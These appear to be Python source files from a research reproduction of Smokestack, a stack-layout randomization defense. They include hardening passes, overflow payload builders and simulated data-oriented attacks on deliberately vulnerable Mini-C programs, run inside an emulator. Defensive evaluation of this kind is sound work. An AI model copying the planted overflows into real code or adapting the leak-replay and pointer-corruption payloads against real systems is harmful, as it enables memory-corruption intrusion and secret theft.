    for block in list(function.blocks):
        if block is fail_block:
            continue
        terminator = block.terminator()
        if not isinstance(terminator, Ret):
            continue
        block.instructions.pop()  # detach the Ret
        builder = IRBuilder(function, block)
        stored = builder.load(fnid_ptr)
        unmasked = builder.xor(stored, rand_value)
        ok = builder.cmp("eq", unmasked, Constant(ct.LONG, identifier))
        ret_block = function.new_block("ss.ret")
        check = builder.cond_br(ok, ret_block, fail_block)
        for inst in (stored, unmasked, ok, check):
            inst.synthetic = True
        ret_block.append(terminator)
