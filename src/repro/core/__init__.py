"""Smokestack: runtime stack-layout randomization (the paper's contribution).

Typical use::

    from repro.core import SmokestackConfig, harden_source

    hardened = harden_source(MINI_C_SOURCE, SmokestackConfig(scheme="aes-10"))
    machine = hardened.make_machine(inputs=[b"..."])
    result = machine.run()
"""

from repro.core.allocations import (
    FrameDescriptor,
    StackAllocation,
    discover_function,
    discover_module,
)
from repro.core.config import SmokestackConfig
from repro.core.fnid import function_identifier
from repro.core.instrument import (
    FNID_SLOT_NAME,
    InstrumentationRecord,
    instrument_module,
    is_instrumented,
)
from repro.core.pbox import PBox, PBoxEntry, PBoxTable, canonicalize
from repro.core.permutation import (
    PermutationTable,
    align_index,
    generate_table,
    layout_for_order,
    nth_lexical_permutation,
    round_rows_to_power_of_two,
)
from repro.core.pipeline import (
    HardenedProgram,
    compile_source,
    harden_module,
    harden_source,
)

__all__ = [
    "FNID_SLOT_NAME",
    "FrameDescriptor",
    "HardenedProgram",
    "InstrumentationRecord",
    "PBox",
    "PBoxEntry",
    "PBoxTable",
    "PermutationTable",
    "SmokestackConfig",
    "StackAllocation",
    "align_index",
    "canonicalize",
    "compile_source",
    "discover_function",
    "discover_module",
    "function_identifier",
    "generate_table",
    "harden_module",
    "harden_source",
    "instrument_module",
    "is_instrumented",
    "layout_for_order",
    "nth_lexical_permutation",
    "round_rows_to_power_of_two",
]
