"""Configuration for the Smokestack hardening pipeline."""

from __future__ import annotations

from dataclasses import dataclass

from repro.core.permutation import DEFAULT_MAX_ROWS


@dataclass
class SmokestackConfig:
    """Tunable knobs of the hardening passes.

    Attributes
    ----------
    scheme:
        Randomness scheme name for the runtime ('pseudo', 'aes-1',
        'aes-10', 'rdrand') — the four experiments of Figure 3.
    pow2_tables:
        §III-E "P-BOX size of power of 2": round each table's row count up
        to a power of two (wrap-around duplication) so the prologue can
        mask instead of divide.
    share_tables:
        §III-E "Rearranging Stack Allocations": functions whose allocation
        multisets match share one table via a canonical ordering.
    round_up_sharing:
        §III-E "Rounding up Allocations": a function may use the table of
        a combination with one extra (smallest) allocation, paying frame
        padding to save P-BOX memory.
    max_table_rows:
        Factorial cap: when n! exceeds this, the table holds this many
        distinct sampled permutations instead of all n! (see
        `repro.core.permutation`).
    compile_seed:
        Seed for compile-time randomness (row shuffling, sampling).  It
        only affects which layouts end up in the read-only P-BOX, never
        which row a given call selects — that is the runtime RNG's job.
    fnid_checks:
        Insert the XOR'd function-identifier prologue/epilogue checks
        (§III-D.2); these replace the baseline's stack protector.
    vla_padding:
        Insert a random-sized dummy allocation before each VLA (§III-D.1).
    selective:
        Analysis-guided hardening (CleanStack-style): run the bounds
        prover (:mod:`repro.analysis.safety`) first and skip the
        permutation machinery in functions where *every* slot is
        PROVEN_SAFE — no write can ever leave its slot, so there is
        nothing for layout randomization to protect.  Functions with any
        UNSAFE/UNKNOWN slot are instrumented exactly as in full mode.
    """

    scheme: str = "aes-10"
    pow2_tables: bool = True
    share_tables: bool = True
    round_up_sharing: bool = True
    max_table_rows: int = DEFAULT_MAX_ROWS
    compile_seed: int = 0x5151
    fnid_checks: bool = True
    vla_padding: bool = True
    selective: bool = False

    def validate(self) -> None:
        if self.max_table_rows < 1:
            raise ValueError("max_table_rows must be >= 1")
        if not self.scheme:
            raise ValueError("scheme must be set")
