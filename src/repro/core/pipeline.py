"""End-to-end compilation pipelines: baseline and Smokestack-hardened.

These are the reproduction's equivalents of ``clang -O2`` (baseline) and
``clang -O2 -fsmokestack`` (hardened): one call takes Mini-C source and
returns something the VM can run.
"""

from __future__ import annotations

from typing import Optional

from repro.core.config import SmokestackConfig
from repro.core.instrument import instrument_module
from repro.core.pbox import PBox
from repro.ir.module import Module
from repro.ir.verifier import verify_module
from repro.lowering import lower
from repro.minic import compile_to_ast
from repro.obs.metrics import get_registry
from repro.perf.timer import PhaseTimer
from repro.rng.entropy import EntropySource
from repro.rng.sources import make_source
from repro.vm.interpreter import Machine


def _observe_phase(name: str, seconds: float) -> None:
    get_registry().histogram("pipeline_phase_seconds", phase=name).observe(
        seconds
    )


def _phase_timer() -> PhaseTimer:
    """A fresh per-call timer feeding the metrics registry.

    Per call (not module-global) so recursive/pipelined builds — an
    oracle compiling inside an analysis that is itself being compiled —
    can never trip the timer's re-entrancy guard.
    """
    return PhaseTimer(observer=_observe_phase)


def lower_ast(ast, name: str = "program", opt_level: int = 0) -> Module:
    """Lower an already-parsed AST (+ optimizer) into a fresh module.

    Lowering never mutates the AST, so one parse can feed several
    independent builds — the benchmark harness lowers the same AST once
    for the baseline and once for the build it hands to the hardening
    passes (which *do* mutate their module).
    """
    timer = _phase_timer()
    with timer.phase("lower"):
        module = lower(ast, name)
    if opt_level:
        from repro.opt import optimize

        with timer.phase("optimize"):
            optimize(module, opt_level)
    return module


def compile_source(source: str, name: str = "program", opt_level: int = 0) -> Module:
    """Front-end + lowering (+ optimizer): the unhardened baseline module.

    ``opt_level=0`` is the clang-at--O0 shape (every local in memory);
    ``opt_level=2`` runs mem2reg and the cleanup passes, reproducing the
    register-resident frames of the paper's ``-O2`` testbed.
    """
    timer = _phase_timer()
    with timer.phase("compile"):
        ast = compile_to_ast(source, name)
        module = lower_ast(ast, name, opt_level=opt_level)
    get_registry().counter("pipeline_compiles_total").inc()
    return module


class HardenedProgram:
    """A Smokestack-hardened module plus its P-BOX and configuration."""

    def __init__(self, module: Module, pbox: PBox, config: SmokestackConfig):
        self.module = module
        self.pbox = pbox
        self.config = config

    def make_machine(
        self,
        entropy: Optional[EntropySource] = None,
        scheme: Optional[str] = None,
        **machine_kwargs,
    ) -> Machine:
        """A :class:`Machine` wired with the configured randomness scheme.

        ``scheme`` overrides the compile-time default, which is how the
        Figure 3 harness runs the same hardened binary under all four
        randomness sources.
        """
        source = make_source(scheme or self.config.scheme, entropy)
        return Machine(self.module, rng_source=source, **machine_kwargs)

    def pbox_bytes(self) -> int:
        return self.pbox.size_bytes()

    def selective_skipped(self) -> list:
        """Functions the prover let ``selective`` mode leave untouched."""
        record = self.module.metadata.get("smokestack", {})
        return list(record.get("selective_skipped", []))

    def __repr__(self) -> str:
        return (
            f"HardenedProgram({self.module.name!r}, scheme="
            f"{self.config.scheme!r}, pbox {self.pbox.size_bytes()}B)"
        )


def harden_module(
    module: Module, config: Optional[SmokestackConfig] = None
) -> HardenedProgram:
    """Apply Smokestack to an already-lowered module (mutates it)."""
    config = config or SmokestackConfig()
    timer = _phase_timer()
    with timer.phase("harden"):
        pbox = instrument_module(module, config)
        verify_module(module)
    get_registry().counter("pipeline_hardens_total").inc()
    return HardenedProgram(module, pbox, config)


def harden_source(
    source: str,
    config: Optional[SmokestackConfig] = None,
    name: str = "program",
    opt_level: int = 0,
) -> HardenedProgram:
    """Compile Mini-C source and harden it in one step.

    Optimization runs *before* instrumentation, as in the paper's build
    (the passes sit late in the LLVM pipeline): at ``opt_level=2`` only
    the locals that survive mem2reg — buffers and address-taken scalars —
    are permuted.
    """
    module = compile_source(source, name, opt_level=opt_level)
    return harden_module(module, config)
