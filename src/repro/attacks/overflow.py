"""Overflow payload construction.

A stack buffer overflow writes from the buffer's base towards *higher*
addresses.  With a frame layout expressed as offsets below the frame top
(the convention of ``Machine.baseline_frame_layout`` and the defenses'
layout oracles), the byte of variable ``v`` lands at payload index
``offset(buffer) - offset(v)``.

:func:`overflow_payload` encodes exactly that arithmetic, which is the
"relative distance is all a DOP attack needs" observation the paper
builds on (§II-B): no absolute address appears anywhere.
"""

from __future__ import annotations

from typing import Dict, Optional

from repro.errors import AttackError


def overflow_payload(
    layout: Dict[str, int],
    buffer_name: str,
    writes: Dict[str, bytes],
    filler: bytes = b"A",
    min_length: int = 0,
) -> bytes:
    """Payload that overwrites each variable in ``writes`` with its bytes.

    ``layout`` maps variable names to offsets below the frame top.  Bytes
    not covered by a write are ``filler`` (collateral corruption — real
    attacks must ensure the clobbered slots don't matter, and the test
    suite shows what happens when, under Smokestack, they suddenly do).
    """
    if buffer_name not in layout:
        raise AttackError(f"buffer '{buffer_name}' not in layout")
    buffer_offset = layout[buffer_name]
    end = min_length
    positions = {}
    for name, data in writes.items():
        if name not in layout:
            raise AttackError(f"target '{name}' not in layout")
        position = buffer_offset - layout[name]
        if position < 0:
            raise AttackError(
                f"target '{name}' lies below the buffer; a forward overflow "
                "cannot reach it"
            )
        positions[name] = position
        end = max(end, position + len(data))
    payload = bytearray((filler * end)[:end])
    for name, data in writes.items():
        position = positions[name]
        payload[position : position + len(data)] = data
    return bytes(payload)


def relative_payload(
    gap: int, value: bytes, filler: bytes = b"A", min_length: int = 0
) -> bytes:
    """Payload writing ``value`` exactly ``gap`` bytes past the buffer base."""
    if gap < 0:
        raise AttackError("gap must be non-negative")
    end = max(gap + len(value), min_length)
    payload = bytearray((filler * end)[:end])
    payload[gap : gap + len(value)] = value
    return bytes(payload)


def find_marker(leak: bytes, marker: bytes, start: int = 0) -> Optional[int]:
    """Locate a distinctive value inside leaked memory; None if absent."""
    position = leak.find(marker, start)
    return position if position >= 0 else None


def le64(value: int) -> bytes:
    """Little-endian 8-byte encoding (two's complement for negatives)."""
    return (value & ((1 << 64) - 1)).to_bytes(8, "little")


def read_le64(data: bytes, offset: int = 0) -> int:
    return int.from_bytes(data[offset : offset + 8], "little")
