"""Attack suite: adaptive DOP attackers, synthetic scenarios and the
real-CVE analogues (librelp, Wireshark, ProFTPD) the paper evaluates.
"""

from repro.attacks.dop import (
    EXPECTED_PRODUCT,
    Listing1DopAttack,
    run_listing1_campaign,
)
from repro.attacks.harness import (
    AttackScenario,
    format_matrix,
    run_campaign,
    run_matrix,
)
from repro.attacks.librelp import (
    PRIVATE_KEY,
    LibrelpDopAttack,
    run_librelp_campaign,
    surgical_connection,
)
from repro.attacks.model import AttackAttempt, AttackReport, classify_result
from repro.attacks.overflow import (
    find_marker,
    le64,
    overflow_payload,
    read_le64,
    relative_payload,
)
from repro.attacks.proftpd import (
    SSL_KEY,
    ProftpdDopAttack,
    run_proftpd_campaign,
    stacked_writes,
)
from repro.attacks.ripe import (
    MAGIC,
    SECRET,
    STATE_SUM_OK,
    DataIndirect,
    HeapIndirect,
    StackDirectBruteForce,
    StackDirectLeak,
    StackIndirect,
    VlaDirect,
    all_scenarios,
    secret_exfiltrated,
)
from repro.attacks.wireshark import (
    CAPTURE_KEY,
    WiresharkDopAttack,
    run_wireshark_campaign,
)

__all__ = [
    "AttackAttempt",
    "AttackReport",
    "AttackScenario",
    "CAPTURE_KEY",
    "DataIndirect",
    "EXPECTED_PRODUCT",
    "HeapIndirect",
    "LibrelpDopAttack",
    "Listing1DopAttack",
    "MAGIC",
    "PRIVATE_KEY",
    "ProftpdDopAttack",
    "SECRET",
    "SSL_KEY",
    "STATE_SUM_OK",
    "StackDirectBruteForce",
    "StackDirectLeak",
    "StackIndirect",
    "VlaDirect",
    "WiresharkDopAttack",
    "all_scenarios",
    "classify_result",
    "find_marker",
    "format_matrix",
    "le64",
    "overflow_payload",
    "read_le64",
    "relative_payload",
    "run_campaign",
    "run_librelp_campaign",
    "run_listing1_campaign",
    "run_matrix",
    "run_proftpd_campaign",
    "run_wireshark_campaign",
    "secret_exfiltrated",
    "stacked_writes",
    "surgical_connection",
]
