"""Campaign harness: run an attack scenario against a defense.

A *scenario* bundles a vulnerable Mini-C program with an adaptive
attacker (an input hook that crafts payloads, possibly using leaked
output from earlier rounds) and a goal predicate.  A *campaign* plays the
scenario against one defense across ``restarts`` process starts — the
brute-force dimension of the threat model (§III-B: "a finite number of
attempts before being detected... a service that restarts after a
crash").

Compile-time randomness is drawn once per campaign (one deployed build);
run-time and load-time randomness is fresh per restart.  That split is
the mechanism behind the paper's §II-C result: brute force converges
against compile-time schemes and does not against Smokestack.
"""

from __future__ import annotations

import random
from typing import Callable, Dict, List, Optional, Sequence

from repro.attacks.model import AttackReport, classify_result
from repro.defenses.base import Defense, ProgramBuild
from repro.vm.interpreter import ExecutionResult, Machine

#: Step budget per attack run: victims are small; anything this long is a
#: runaway loop caused by corrupted control data.
ATTACK_MAX_STEPS = 2_000_000


class AttackScenario:
    """A vulnerable program plus its adaptive attacker."""

    #: short registry name, e.g. "stack-direct"
    name = "abstract"
    #: Mini-C source of the victim program
    source = ""
    #: function whose frame the exploit targets (for reporting)
    victim_function = ""
    #: one-line description for reports
    description = ""

    def make_input_hook(
        self, build: ProgramBuild, rng: random.Random, attempt: int
    ) -> Callable[[Machine], Optional[bytes]]:
        """The attacker: called whenever the victim requests input.

        The hook may consult ``build.layout_oracle`` (static analysis),
        the machine's accumulated *outputs* (leaks the program emitted),
        and its own round counter.  It must not read ``machine.memory``
        directly — disclosure only flows through program channels.
        """
        raise NotImplementedError

    def machine_kwargs(self) -> Dict[str, object]:
        """Extra Machine options (rarely needed)."""
        return {"max_steps": ATTACK_MAX_STEPS}

    def goal_met(self, result: ExecutionResult) -> bool:
        """Did the attack achieve its end (e.g. secret in the output)?"""
        raise NotImplementedError

    def run_once(
        self, build: ProgramBuild, rng: random.Random, attempt: int
    ) -> ExecutionResult:
        hook = self.make_input_hook(build, rng, attempt)
        machine = build.make_machine(input_hook=hook, **self.machine_kwargs())
        return machine.run()


def run_campaign(
    scenario: AttackScenario,
    defense: Defense,
    restarts: int = 16,
    seed: int = 0,
    stop_on_success: bool = True,
) -> AttackReport:
    """Attack one deployment of ``scenario.source`` under ``defense``."""
    build = defense.build(scenario.source, instance_seed=seed)
    report = AttackReport(scenario.name, defense.name)
    for attempt in range(restarts):
        rng = random.Random((seed << 16) ^ (attempt * 0x9E37) ^ 0xA77ACC)
        result = scenario.run_once(build, rng, attempt)
        outcome = classify_result(result, scenario.goal_met(result))
        report.record(outcome, detail=result.error_message)
        if stop_on_success and outcome == "success":
            break
    return report


def run_matrix(
    scenarios: Sequence[AttackScenario],
    defenses: Sequence[Defense],
    restarts: int = 16,
    seed: int = 0,
) -> Dict[str, Dict[str, AttackReport]]:
    """scenario-name -> defense-name -> report, for grid summaries."""
    grid: Dict[str, Dict[str, AttackReport]] = {}
    for scenario in scenarios:
        row: Dict[str, AttackReport] = {}
        for defense in defenses:
            row[defense.name] = run_campaign(
                scenario, defense, restarts=restarts, seed=seed
            )
        grid[scenario.name] = row
    return grid


def format_matrix(grid: Dict[str, Dict[str, AttackReport]]) -> str:
    """Human-readable verdict grid (rows: scenarios, cols: defenses)."""
    if not grid:
        return "(empty matrix)"
    defense_names = list(next(iter(grid.values())).keys())
    width = max(len(name) for name in grid) + 2
    col = max(max(len(name) for name in defense_names) + 2, 11)
    lines = ["".ljust(width) + "".join(name.ljust(col) for name in defense_names)]
    for scenario_name, row in grid.items():
        cells = []
        for name in defense_names:
            report = row[name]
            cells.append(report.verdict().ljust(col))
        lines.append(scenario_name.ljust(width) + "".join(cells))
    return "\n".join(lines)
