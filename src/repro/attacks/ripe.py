"""Synthetic penetration-test scenarios (paper §V-C, RIPE-style matrix).

The paper builds two families of synthetic DOP attacks: overflows
originating from a **stack** buffer and from **data-segment or heap**
buffers, each in a **direct** variant (the overflow itself clobbers the
target) and an **indirect** one (the overflow corrupts a pointer, and a
subsequent program write through that pointer hits the target) — the
technique taxonomy of the RIPE benchmark suite.

Every victim exfiltrates a secret only along a legitimate control-flow
path guarded by non-control data (``quota``); no control data is ever
hijacked, so CFI-style defenses are moot by construction — these are pure
data-oriented attacks.  The victim frames carry a realistic number of
locals (state machines keep plenty of scalars around), which is also what
gives Smokestack its permutation entropy.

The attackers are *adaptive*: they use only channels the programs offer —
an error-report style echo of stack memory (the disclosure), a logged
debug pointer, and the service's restart loop (brute force).
"""

from __future__ import annotations

import random
from typing import Callable, Dict, List, Optional

from repro.attacks.harness import AttackScenario
from repro.attacks.overflow import find_marker, le64, overflow_payload, relative_payload
from repro.defenses.base import ProgramBuild
from repro.vm.interpreter import ExecutionResult, Machine

#: Exfiltration target; present in the output only if an attack succeeded.
SECRET = b"K3Y!K3Y!K3Y!K3Y!K3Y!K3Y!"
SECRET_DECL = 'char g_secret[25] = "K3Y!K3Y!K3Y!K3Y!K3Y!K3Y!";\n'

#: Distinctive initial value of the non-control target variable; the
#: disclosure attack pattern-matches it in leaked stack bytes.
QUOTA_MARKER = 77777
#: The exact value the gate requires (precise control, not just a smash).
MAGIC = 0xD00DF00D
#: Value for the indirect scenarios' gates.
INDIRECT_MAGIC = 123456789

_PROBE = b"probe"

#: A realistic clutch of session-state locals shared by the stack victims.
#: They are live across the overflow (summed at the end) so collateral
#: corruption of them is observable, and they give the frame the
#: permutation entropy a real protocol handler's frame would have.
_STATE_LOCALS = """
    long s_timeout = 30;
    long s_retries = 3;
    long s_flags = 0;
    long s_window = 4096;
    long s_seq = 1;
    long s_acked = 0;
    long s_limit = 65536;
    long s_backoff = 250;
    int s_peer = 9001;
    int s_port = 514;
    unsigned int s_mask = 4080;
    short s_proto = 7;
    char s_code = 13;
    char s_cred[32];
    char s_scratch[96];
"""

_STATE_SUM = (
    "s_timeout + s_retries + s_flags + s_window + s_seq + s_acked"
    " + s_limit + s_backoff + s_peer + s_port + (long)s_mask"
    " + s_proto + s_code"
)

#: What _STATE_SUM evaluates to when the state is uncorrupted.  The
#: victims gate the secret on this: an attack that plows filler over live
#: session state is "unintended corruption of adjacent stack resident
#: data" and does not count as a controlled exploit (paper §II-C says
#: real DOP payloads must avoid exactly that).
STATE_SUM_OK = (
    30 + 3 + 0 + 4096 + 1 + 0 + 65536 + 250 + 9001 + 514 + 4080 + 7 + 13
)


def secret_exfiltrated(result: ExecutionResult) -> bool:
    return SECRET in bytes(result.output_data)


class _ReplayOverflow:
    """Shared attacker: probe, replay the disclosed region, flip the target.

    Round 1 sends a harmless probe; the victim's error-report echo then
    hands the attacker a byte-exact snapshot of everything between the
    buffer and the target — including stack canaries, return cookies and
    any intervening state.  Round 2 *replays that snapshot verbatim* with
    only the 8 target bytes changed: the classic disclosure attack that
    walks straight through canaries and padding (paper §II-C).

    Against any layout that is stable across invocations this succeeds
    immediately; under per-invocation randomization the snapshot is stale
    — the replayed bytes land on the wrong slots (in particular, a stale
    XOR'd function identifier), so Smokestack detects or survives it.
    """

    def __init__(self, oracle_gap: Optional[int] = None):
        self.round = 0
        self.consumed = 0
        self.oracle_gap = oracle_gap

    def __call__(self, machine: Machine) -> Optional[bytes]:
        leak = bytes(machine.result.output_data)[self.consumed :]
        self.consumed = len(machine.result.output_data)
        self.round += 1
        if self.round == 1:
            # Probe first: striking blind tends to smash the return slot
            # and kill the process before the disclosure can be used.
            return _PROBE
        gap = find_marker(leak, le64(QUOTA_MARKER))
        if gap is not None and len(leak) >= gap + 8:
            payload = bytearray(leak[: gap + 8])
            payload[gap : gap + 8] = le64(MAGIC)
            return bytes(payload)
        if self.oracle_gap is not None:
            return relative_payload(self.oracle_gap, le64(MAGIC))
        return _PROBE


class StackDirectLeak(AttackScenario):
    """Direct stack overflow, guided by a memory-disclosing echo."""

    name = "stack-direct"
    victim_function = "victim"
    description = (
        "stack buffer overflow into the caller's authorization variable, "
        "derandomized via an error-report echo of stack memory"
    )
    # The target lives in the CALLER (the service loop), as in the real
    # librelp/Wireshark exploits — up-stack targets are always above the
    # overflowed buffer, whatever the intra-frame permutation.
    source = SECRET_DECL + f"""
long victim() {{
{_STATE_LOCALS}
    char buff[64];
    input_read_unbounded(buff);
    output_bytes(buff, 576);   /* error-report echo == memory disclosure */
    return {_STATE_SUM};
}}

long service() {{
    long quota = 77777;        /* the DOP target, one frame up */
    long total = 0;
    for (int i = 0; i < 6; i++) {{
        long state = victim();
        total += state;
        /* secret flows only if the session state survived intact */
        if (state == {STATE_SUM_OK} && quota == 0xD00DF00D) {{
            output_bytes(g_secret, 24);
        }}
    }}
    return total;
}}

int main() {{
    char reserve[512];         /* deeper caller frame, as on a real stack */
    reserve[0] = 0;
    return (int)(service() & 0xff);
}}
"""

    def make_input_hook(self, build: ProgramBuild, rng, attempt):
        return _ReplayOverflow(oracle_gap=None)

    def goal_met(self, result: ExecutionResult) -> bool:
        return secret_exfiltrated(result)


class StackDirectBruteForce(AttackScenario):
    """Direct stack overflow with no leak: synthetic frame replay.

    The victim offers no disclosure channel, so the attacker builds the
    whole buffer-to-target byte image *from static analysis plus program
    semantics*: the reference layout gives every variable's slot, the
    known initial values fill them, and MAGIC goes on ``quota`` — no
    filler ever touches live state.  This one-shot "synthetic replay" is
    exact for any deployment whose layout matches the reference binary
    (none/canary/ASLR/padding: intra-frame layout is untouched by all of
    them) and collapses against layouts static analysis cannot pin down.
    """

    name = "stack-direct-bruteforce"
    victim_function = "victim"
    description = "blind synthetic-replay strike from static analysis"
    source = SECRET_DECL + f"""
long victim() {{
    long quota = 77777;
{_STATE_LOCALS}
    char buff[64];
    input_read_unbounded(buff);
    long state = {_STATE_SUM};
    if (state == {STATE_SUM_OK} && quota == 0xD00DF00D) {{
        output_bytes(g_secret, 24);
    }}
    return state;
}}

int main() {{
    char reserve[512];
    reserve[0] = 0;
    long sink = 0;
    for (int i = 0; i < 6; i++) {{
        sink += victim();
    }}
    return (int)(sink & 0xff);
}}
"""

    #: Known initial values of the victim's state (program semantics).
    INITIAL_VALUES = {
        "s_timeout": (30, 8),
        "s_retries": (3, 8),
        "s_flags": (0, 8),
        "s_window": (4096, 8),
        "s_seq": (1, 8),
        "s_acked": (0, 8),
        "s_limit": (65536, 8),
        "s_backoff": (250, 8),
        "s_peer": (9001, 4),
        "s_port": (514, 4),
        "s_mask": (4080, 4),
        "s_proto": (7, 2),
        "s_code": (13, 1),
    }

    def make_input_hook(self, build: ProgramBuild, rng, attempt):
        oracle = build.layout_oracle(self.victim_function)
        payload: Optional[bytes] = None
        needed = set(self.INITIAL_VALUES) | {"quota", "buff"}
        if needed.issubset(oracle):
            writes = {
                name: le64(value)[:size]
                for name, (value, size) in self.INITIAL_VALUES.items()
            }
            writes["quota"] = le64(MAGIC)
            # Only write variables the overflow can actually reach.
            reachable = {
                name: data
                for name, data in writes.items()
                if oracle[name] <= oracle["buff"]
            }
            if "quota" in reachable:
                payload = overflow_payload(
                    oracle, "buff", reachable, filler=b"\x00"
                )

        def hook(machine: Machine) -> Optional[bytes]:
            return payload if payload is not None else _PROBE

        return hook

    def goal_met(self, result: ExecutionResult) -> bool:
        return secret_exfiltrated(result)


class StackIndirect(AttackScenario):
    """Indirect stack attack: corrupt a pointer, write through it.

    The victim logs its buffer address (debug output), so the attacker
    has an absolute anchor; combined with the *relative* offsets from
    static analysis it computes the target's absolute address, corrupts
    an adjacent data pointer, and lets the program's own store do the
    write — the RIPE "indirect" technique.  A pointer leak like this is
    precisely how real exploits bypass ASLR (paper §I).
    """

    name = "stack-indirect"
    victim_function = "victim"
    description = "pointer corruption + program store through it"
    source = SECRET_DECL + f"""
long g_dummy = 0;

long victim() {{
    long quota = 5555555;
{_STATE_LOCALS}
    long *slot = &g_dummy;
    char buff[64];
    print_int((long)buff);        /* debug log: pointer leak */
    input_read_unbounded(buff);
    long val = 0;
    input_read((char*)&val, 8);   /* program reads a config value */
    *slot = val;                  /* the indirect write */
    if (quota == 123456789) {{
        output_bytes(g_secret, 24);
    }}
    return {_STATE_SUM};
}}

int main() {{
    char reserve[512];
    reserve[0] = 0;
    long sink = 0;
    for (int i = 0; i < 6; i++) {{
        sink += victim();
    }}
    return (int)(sink & 0xff);
}}
"""

    def make_input_hook(self, build: ProgramBuild, rng, attempt):
        oracle = build.layout_oracle(self.victim_function)
        state = {"round": 0}
        have_offsets = all(k in oracle for k in ("buff", "slot", "quota"))

        def hook(machine: Machine) -> Optional[bytes]:
            state["round"] += 1
            odd_round = state["round"] % 2 == 1  # overflow, then value
            if not have_offsets:
                # No per-variable layout recoverable (Smokestack): the
                # attacker has nothing to aim with.
                return _PROBE if odd_round else le64(0)
            if odd_round:
                if not machine.result.int_outputs:
                    return _PROBE
                buff_addr = machine.result.int_outputs[-1]
                quota_addr = buff_addr + (oracle["buff"] - oracle["quota"])
                slot_gap = oracle["buff"] - oracle["slot"]
                return relative_payload(slot_gap, le64(quota_addr))
            return le64(INDIRECT_MAGIC)

        return hook

    def goal_met(self, result: ExecutionResult) -> bool:
        return secret_exfiltrated(result)


def _data_gap(build: ProgramBuild, from_symbol: str, to_symbol: str) -> int:
    """Distance between two globals, as read from the binary's symbol table.

    Data-segment layout is part of the binary (none of the evaluated
    defenses randomize it), so this is legitimate static analysis.
    """
    image = build.make_machine().image
    return image.address_of_global(to_symbol) - image.address_of_global(from_symbol)


class DataIndirect(AttackScenario):
    """Overflow a data-segment buffer onto a data pointer; write to stack."""

    name = "data-indirect"
    victim_function = "victim"
    description = (
        "global-buffer overflow corrupts an adjacent global pointer; the "
        "program's store through it hits an absolute stack address"
    )
    source = SECRET_DECL + f"""
char g_buf[64];
long g_dummy = 0;
long *g_slot;

long victim() {{
    long quota = 5555555;
{_STATE_LOCALS}
    char tmp[32];
    print_int((long)tmp);            /* debug log: stack pointer leak */
    input_read_unbounded(g_buf);     /* overflow entirely in .data */
    long val = 0;
    input_read((char*)&val, 8);
    *g_slot = val;                   /* indirect write */
    if (quota == 123456789) {{
        output_bytes(g_secret, 24);
    }}
    return {_STATE_SUM};
}}

int main() {{
    char reserve[512];
    reserve[0] = 0;
    g_slot = &g_dummy;
    long sink = 0;
    for (int i = 0; i < 6; i++) {{
        g_slot = &g_dummy;
        sink += victim();
    }}
    return (int)(sink & 0xff);
}}
"""

    def make_input_hook(self, build: ProgramBuild, rng, attempt):
        oracle = build.layout_oracle(self.victim_function)
        have_offsets = all(k in oracle for k in ("tmp", "quota"))
        slot_gap = _data_gap(build, "g_buf", "g_slot")
        state = {"round": 0}

        def hook(machine: Machine) -> Optional[bytes]:
            state["round"] += 1
            odd_round = state["round"] % 2 == 1
            if not have_offsets:
                return _PROBE if odd_round else le64(0)
            if odd_round:
                if not machine.result.int_outputs:
                    return _PROBE
                tmp_addr = machine.result.int_outputs[-1]
                quota_addr = tmp_addr + (oracle["tmp"] - oracle["quota"])
                return relative_payload(slot_gap, le64(quota_addr))
            return le64(INDIRECT_MAGIC)

        return hook

    def goal_met(self, result: ExecutionResult) -> bool:
        return secret_exfiltrated(result)


class HeapIndirect(AttackScenario):
    """Overflow a heap buffer onto an adjacent heap pointer cell."""

    name = "heap-indirect"
    victim_function = "victim"
    description = (
        "heap-buffer overflow corrupts a pointer in the next chunk; the "
        "program's store through it hits an absolute stack address"
    )
    #: gap from the buffer chunk to the pointer cell — the bump allocator
    #: places consecutive allocations back to back (allocator semantics the
    #: attacker knows, as with real heap feng shui)
    HEAP_GAP = 64
    source = SECRET_DECL + f"""
long g_dummy = 0;

long victim(char *hbuf, long **cell) {{
    long quota = 5555555;
{_STATE_LOCALS}
    char tmp[32];
    print_int((long)tmp);          /* debug log: stack pointer leak */
    input_read_unbounded(hbuf);    /* overflow entirely on the heap */
    long val = 0;
    input_read((char*)&val, 8);
    long *p = *cell;
    *p = val;                      /* indirect write */
    if (quota == 123456789) {{
        output_bytes(g_secret, 24);
    }}
    return {_STATE_SUM};
}}

int main() {{
    char reserve[512];
    reserve[0] = 0;
    char *hbuf = (char*)malloc(64);
    long **cell = (long**)malloc(16);
    long sink = 0;
    for (int i = 0; i < 6; i++) {{
        *cell = &g_dummy;
        sink += victim(hbuf, cell);
    }}
    return (int)(sink & 0xff);
}}
"""

    def make_input_hook(self, build: ProgramBuild, rng, attempt):
        oracle = build.layout_oracle(self.victim_function)
        have_offsets = all(k in oracle for k in ("tmp", "quota"))
        state = {"round": 0}

        def hook(machine: Machine) -> Optional[bytes]:
            state["round"] += 1
            odd_round = state["round"] % 2 == 1
            if not have_offsets:
                return _PROBE if odd_round else le64(0)
            if odd_round:
                if not machine.result.int_outputs:
                    return _PROBE
                tmp_addr = machine.result.int_outputs[-1]
                quota_addr = tmp_addr + (oracle["tmp"] - oracle["quota"])
                return relative_payload(self.HEAP_GAP, le64(quota_addr))
            return le64(INDIRECT_MAGIC)

        return hook

    def goal_met(self, result: ExecutionResult) -> bool:
        return secret_exfiltrated(result)


class VlaDirect(AttackScenario):
    """Direct overflow from a variable-length array.

    Exercises Smokestack's VLA handling (§III-D.1): the random dummy
    allocation before the VLA re-randomizes the VLA-to-frame distance at
    every invocation even though the VLA itself is a runtime allocation.
    """

    name = "vla-direct"
    victim_function = "victim"
    description = "overflow from a C99 VLA onto frame locals, leak-guided"
    source = SECRET_DECL + f"""
long victim(int n) {{
    long quota = 77777;
{_STATE_LOCALS}
    char vbuf[n];
    input_read_unbounded(vbuf);
    output_bytes(vbuf, 576);   /* echo == memory disclosure */
    long state = {_STATE_SUM};
    if (state == {STATE_SUM_OK} && quota == 0xD00DF00D) {{
        output_bytes(g_secret, 24);
    }}
    return state;
}}

int main() {{
    char reserve[512];
    reserve[0] = 0;
    long sink = 0;
    for (int i = 0; i < 6; i++) {{
        sink += victim(48);
    }}
    return (int)(sink & 0xff);
}}
"""

    def make_input_hook(self, build: ProgramBuild, rng, attempt):
        # VLAs sit below the static frame, so there is no static gap to
        # read from the binary: the echo is the only guide.
        return _ReplayOverflow(oracle_gap=None)

    def goal_met(self, result: ExecutionResult) -> bool:
        return secret_exfiltrated(result)


def all_scenarios() -> List[AttackScenario]:
    """The synthetic penetration matrix of §V-C."""
    return [
        StackDirectLeak(),
